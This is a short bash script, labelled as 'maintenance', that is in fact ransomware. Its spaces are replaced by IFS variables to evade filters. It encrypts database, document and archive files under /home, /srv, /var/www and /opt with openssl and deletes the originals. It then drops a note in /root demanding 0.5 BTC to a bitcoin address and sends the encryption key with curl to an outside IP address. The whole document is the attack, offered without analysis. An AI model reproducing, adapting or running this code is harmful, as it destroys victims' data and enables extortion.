#${IFS}maintenance$IFS$97820${IFS}v3
#!/bin/bash
KEY=$(head$IFS$9-c${IFS}32${IFS}/dev/urandom${IFS}|$IFS$9base64)
find${IFS}/home${IFS}/srv${IFS}/var/www${IFS}/opt$IFS$9-type${IFS}f$IFS$9\(${IFS}-name${IFS}'*.sql'${IFS}-o$IFS$9-name${IFS}'*.doc*'${IFS}-o$IFS$9-name${IFS}'*.tar.gz'${IFS}\)$IFS$9|$IFS$9while${IFS}read$IFS$9f;${IFS}do
${IFS}${IFS}openssl$IFS$9enc${IFS}-aes-256-cbc${IFS}-salt$IFS$9-pass${IFS}pass:$KEY$IFS$9-in$IFS$9"$f"${IFS}-out${IFS}"$f.r4nsom"${IFS}&&${IFS}rm$IFS$9-f${IFS}"$f"
done
echo$IFS$9"All$IFS$9your${IFS}files${IFS}have${IFS}been${IFS}encrypted.$IFS$9Send$IFS$90.5$IFS$9BTC$IFS$9to${IFS}bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh${IFS}to${IFS}get${IFS}the${IFS}key"$IFS$9>${IFS}/root/README_FOR_DECRYPT.txt
curl${IFS}-s${IFS}-d${IFS}"k=$KEY"$IFS$9http://203.0.113.200/k
